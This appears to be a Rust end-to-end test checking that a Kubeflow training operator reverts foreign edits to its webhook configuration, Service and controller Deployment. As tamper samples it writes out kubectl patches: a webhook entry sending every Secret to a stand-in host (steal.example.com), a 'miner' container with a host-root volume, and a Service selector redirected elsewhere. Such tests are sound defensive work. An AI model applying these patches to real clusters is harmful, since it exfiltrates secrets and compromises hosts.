//! Objects enforced whole: what another field manager adds to a managed
//! webhook configuration's entries, a role's aggregation rule or a
//! controller's pod template, and the bundle does not set, is removed
//! within a reconcile (the object's own watch brings it); what others add
//! elsewhere (an annotation) stays theirs, and is listed in
//! `status.foreignFields`. An edit of the owner labels (pointing the
//! object at another CR), or of the label the watches select on, does not
//! hide a redirected Service from the CR that applied it.

use std::time::Duration;

use k8s_openapi::api::admissionregistration::v1::ValidatingWebhookConfiguration;
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::Service;
use kube::api::Api;
use kubeflow_e2e::component::{install_training, wait_condition};
use kubeflow_e2e::{run_tool, wait_for};

const TIMEOUT: Duration = Duration::from_secs(60);
const WEBHOOK: &str = "validator.training-operator.kubeflow.org";

fn kubectl(args: &[&str]) {
    let out = run_tool("kubectl", args);
    assert!(
        out.status.success(),
        "kubectl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn containers(d: &Deployment) -> Vec<String> {
    d.spec
        .as_ref()
        .and_then(|s| s.template.spec.as_ref())
        .map(|p| p.containers.iter().map(|c| c.name.clone()).collect())
        .unwrap_or_default()
}

fn volumes(d: &Deployment) -> Vec<String> {
    d.spec
        .as_ref()
        .and_then(|s| s.template.spec.as_ref())
        .and_then(|p| p.volumes.as_ref())
        .map(|v| v.iter().map(|v| v.name.clone()).collect())
        .unwrap_or_default()
}

#[tokio::test]
async fn fields_others_add_to_what_grants_or_runs_are_removed_others_stay() {
    let (client, _g) = kubeflow_e2e::component::prepare(&["Training"], &["training"]).await;
    let (ns, _op, trainings, _) = install_training(&client, "whole", TIMEOUT).await;
    tokio::time::sleep(Duration::from_secs(3)).await;

    // An edit that points an object's owner labels at another CR and, in
    // the same write, sends the webhook's Service to other pods: the CR
    // that applied it still hears of it, and both are put back. (A Service:
    // nothing else the operator watches changes with it to bring an event.)
    let services: Api<Service> = Api::namespaced(client.clone(), &ns.name);
    let selector = |s: &Service| s.spec.as_ref().and_then(|s| s.selector.clone());
    let bundle_selector = selector(
        &services
            .get("training-operator")
            .await
            .expect("the Service"),
    );
    // First the owner label, then the label the watches select on (the
    // object leaves the watch; its last event, a deletion from the watch's
    // view, still names its owner). Each edit comes once the install is
    // quiet, well before the 10-minute safety requeue.
    for (label, pointer, tampered, wanted) in [
        (
            "components.kubeflow.org/owner-name",
            "owner-name",
            "someone-else",
            "kubeflow",
        ),
        (
            "components.kubeflow.org/component",
            "component",
            "other",
            "training",
        ),
    ] {
        let patch = format!(
            r#"[{{"op": "replace", "path": "/metadata/labels/components.kubeflow.org~1{pointer}", "value": "{tampered}"}},
                {{"op": "replace", "path": "/spec/selector", "value": {{"app": "mallory"}}}}]"#
        );
        kubectl(&[
            "patch",
            "-n",
            &ns.name,
            "service",
            "training-operator",
            "--type",
            "json",
            "-p",
            &patch,
        ]);
        wait_for(
            &format!("{label} and the selector put back"),
            Duration::from_secs(20),
            || async {
                let s = services.get("training-operator").await.ok()?;
                let value = s
                    .metadata
                    .labels
                    .as_ref()
                    .and_then(|l| l.get(label))
                    .cloned();
                (value.as_deref() == Some(wanted) && selector(&s) == bundle_selector).then_some(())
            },
        )
        .await;
        tokio::time::sleep(Duration::from_secs(3)).await;
    }

    let webhooks: Api<ValidatingWebhookConfiguration> = Api::all(client.clone());
    let deployments: Api<Deployment> = Api::namespaced(client.clone(), &ns.name);
    let entries = |w: &ValidatingWebhookConfiguration| -> Vec<String> {
        w.webhooks
            .iter()
            .flatten()
            .map(|h| h.name.clone())
            .collect()
    };
    let bundle_entries = entries(&webhooks.get(WEBHOOK).await.expect("the webhook"));
    let d = deployments
        .get("training-operator")
        .await
        .expect("the controller");
    let (bundle_containers, bundle_volumes) = (containers(&d), volumes(&d));

    // The attacks: an entry that sends every Secret written to an outside
    // URL; a container and a host-root volume in the controller's pods.
    kubectl(&[
        "patch",
        "validatingwebhookconfiguration",
        WEBHOOK,
        "--type",
        "json",
        "-p",
        r#"[{"op": "add", "path": "/webhooks/-", "value": {"name": "steal.example.com",
            "clientConfig": {"url": "https://steal.example.com/"},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": ["secrets"]}],
            "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore"}}]"#,
    ]);
    kubectl(&[
        "patch",
        "-n",
        &ns.name,
        "deployment",
        "training-operator",
        "--type",
        "strategic",
        "-p",
        r#"{"spec": {"template": {"spec": {
            "containers": [{"name": "miner", "image": "example.com/miner:1"}],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}}}"#,
    ]);
    // What stays: an annotation someone adds.
    kubectl(&[
        "annotate",
        "-n",
        &ns.name,
        "deployment/training-operator",
        "example.com/team=ml",
    ]);

    wait_for("the added webhook entry removed", TIMEOUT, || async {
        let w = webhooks.get(WEBHOOK).await.ok()?;
        (entries(&w) == bundle_entries).then_some(())
    })
    .await;
    let d = wait_for(
        "the added container and volume removed",
        TIMEOUT,
        || async {
            let d = deployments.get("training-operator").await.ok()?;
            (containers(&d) == bundle_containers && volumes(&d) == bundle_volumes).then_some(d)
        },
    )
    .await;
    assert_eq!(
        d.metadata
            .annotations
            .as_ref()
            .and_then(|a| a.get("example.com/team"))
            .map(String::as_str),
        Some("ml"),
        "another manager's annotation was removed"
    );
    let listed = wait_for(
        "the annotation listed as another manager's",
        TIMEOUT,
        || kubeflow_e2e::component::foreign_entry(&trainings, "kubeflow", "kubectl-annotate"),
    )
    .await;
    assert_eq!(
        listed["fields"],
        serde_json::json!(["metadata.annotations.example.com/team"])
    );
    wait_condition(&trainings, "kubeflow", "Ready", "True", TIMEOUT).await;

    kubeflow_e2e::component::delete_and_wait(&trainings, "kubeflow", TIMEOUT).await;
    ns.delete().await;
}
